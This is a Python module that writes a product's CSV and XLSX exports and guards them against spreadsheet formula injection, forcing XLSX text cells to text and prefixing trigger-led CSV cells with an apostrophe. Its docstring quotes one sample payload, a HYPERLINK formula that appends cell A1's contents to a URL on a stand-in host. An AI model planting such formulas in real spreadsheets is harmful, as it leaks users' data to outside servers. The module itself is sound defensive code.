"""The one writer of every CSV and XLSX file the product produces (web, command line,
publication): no cell of an export is ever a live formula.

Pure Python (no Django): the tabular layers of ``responses``, ``evidence`` and
``registry`` use it, and so does the publication.

* **XLSX**: every text cell is written as text (``data_type = "s"``), so a value such as
  ``=HYPERLINK("http://x/?"&A1,"Click")`` is shown as typed and never evaluated; numbers,
  dates and booleans keep their type. Characters a worksheet cannot hold (control
  characters) are escaped the way Excel itself does (``_x0001_``), which openpyxl and
  Excel read back as the character.
* **CSV**: a text cell that starts with ``= + - @``, a tab or a carriage return is prefixed
  with an apostrophe (OWASP's "CSV injection" guard), unless the whole cell is a plain
  number such as ``-5`` (a number cannot run anything, and numbers stay numbers). The guard
  is reversible: ``unguard_csv_cell`` undoes it, so an exported CSV re-imports unchanged
  (a value that itself starts with apostrophes before a trigger gets one more).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path
from typing import IO, Any

from iocompendium.atomic import write_bytes_atomic

# First characters that make a spreadsheet read a CSV cell as a formula (or shift it).
CSV_TRIGGERS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _needs_guard(text: str) -> bool:
    stripped = text.lstrip("'")
    if stripped[:1] not in CSV_TRIGGERS:
        return False
    # An apostrophe-led value is always guarded, so that unguarding is unambiguous.
    return stripped != text or not _PLAIN_NUMBER.fullmatch(text)


def guard_csv_cell(value: Any) -> Any:
    """The value as it goes into a CSV cell: text that a spreadsheet would run gets a
    leading apostrophe; anything that is not text is returned as it is."""
    if isinstance(value, str) and _needs_guard(value):
        return "'" + value
    return value


def unguard_csv_cell(text: str) -> str:
    """Undo ``guard_csv_cell`` on a cell read back from a CSV file."""
    if text[:1] == "'" and text.lstrip("'")[:1] in CSV_TRIGGERS:
        return text[1:]
    return text


def csv_row(values: Iterable[Any]) -> list[Any]:
    """One row with every cell guarded and ``None`` written as an empty cell."""
    return ["" if value is None else guard_csv_cell(value) for value in values]


class _LineEnding:
    """Python 3.11's csv module quotes a cell holding a carriage return only when the line
    terminator contains one, and an unquoted CR breaks the file: so rows are written with
    CRLF (every CR and LF inside a cell quoted) and the row's own ending is then swapped."""

    def __init__(self, handle: Any, ending: str) -> None:
        self.handle, self.ending = handle, ending

    def write(self, line: str) -> Any:
        return self.handle.write(line[:-2] + self.ending if line.endswith("\r\n") else line)


def _writer(handle: Any, lineterminator: str) -> Any:
    return csv.writer(_LineEnding(handle, lineterminator), lineterminator="\r\n")


def write_csv(handle: IO[str], header: Sequence[str] | None,
              rows: Iterable[Iterable[Any]], *, lineterminator: str = "\n") -> None:
    """Write guarded rows (after the header, when given) to an open text file."""
    writer = _writer(handle, lineterminator)
    if header is not None:
        writer.writerow(csv_row(header))
    writer.writerows(csv_row(row) for row in rows)


def csv_text(header: Sequence[str] | None, rows: Iterable[Iterable[Any]],
             *, lineterminator: str = "\n") -> str:
    """The whole CSV file as text."""
    buffer = io.StringIO()
    write_csv(buffer, header, rows, lineterminator=lineterminator)
    return buffer.getvalue()


def csv_dict_text(columns: Sequence[str], rows: Iterable[dict[str, Any]]) -> str:
    """A CSV of dicts, in the order of ``columns`` (missing keys are empty cells)."""
    return csv_text(columns, ([row.get(column) for column in columns] for row in rows))


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]], *, lineterminator: str = "\r\n") -> Iterator[str]:
    """Guarded CSV lines one by one, for a streamed download."""
    writer = _writer(_Echo(), lineterminator)
    for row in rows:
        yield writer.writerow(csv_row(row))


# --- XLSX ---------------------------------------------------------------------------------


def _xlsx_text(text: str) -> str:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.utils.escape import escape

    return escape(text) if ILLEGAL_CHARACTERS_RE.search(text) else text


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """An openpyxl cell for ``sheet`` (normal or write-only) holding ``value``: text is
    always a text cell, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    if isinstance(value, str):
        cell = WriteOnlyCell(sheet, value=_xlsx_text(value))
        cell.data_type = "s"  # openpyxl would otherwise store "=..." as a formula
        return cell
    return WriteOnlyCell(sheet, value=value)


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """The row's cells, ready for ``sheet.append``."""
    return [None if value is None else xlsx_cell(sheet, value) for value in values]


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append one row of values to a worksheet, text as text."""
    sheet.append(xlsx_row(sheet, values))


def xlsx_bytes(workbook: Any) -> bytes:
    """The saved workbook."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def tables_xlsx(sheets: Iterable[tuple[str, Sequence[str], Iterable[Iterable[Any]]]]) -> bytes:
    """A workbook of (sheet name, header, rows), written in streaming mode."""
    import openpyxl

    workbook = openpyxl.Workbook(write_only=True)
    for name, header, rows in sheets:
        sheet = workbook.create_sheet(name)
        append_row(sheet, header)
        for row in rows:
            append_row(sheet, row)
    return xlsx_bytes(workbook)


def write_table_file(path: str | Path, header: Sequence[str],
                     rows: Iterable[Iterable[Any]], *, sheet_name: str = "Sheet") -> None:
    """Write a header and rows to ``.csv`` (UTF-8 with a byte-order mark, so Excel reads
    it) or ``.xlsx``, by the file's extension."""
    path = Path(path)
    suffix = path.suffix.lower()
    if suffix == ".csv":
        text = csv_text(header, rows, lineterminator="\r\n")
        write_bytes_atomic(path, text.encode("utf-8-sig"))
    elif suffix == ".xlsx":
        write_bytes_atomic(path, tables_xlsx([(sheet_name, header, rows)]))
    else:
        raise ValueError(f"{path.name}: write to a .csv or .xlsx file.")
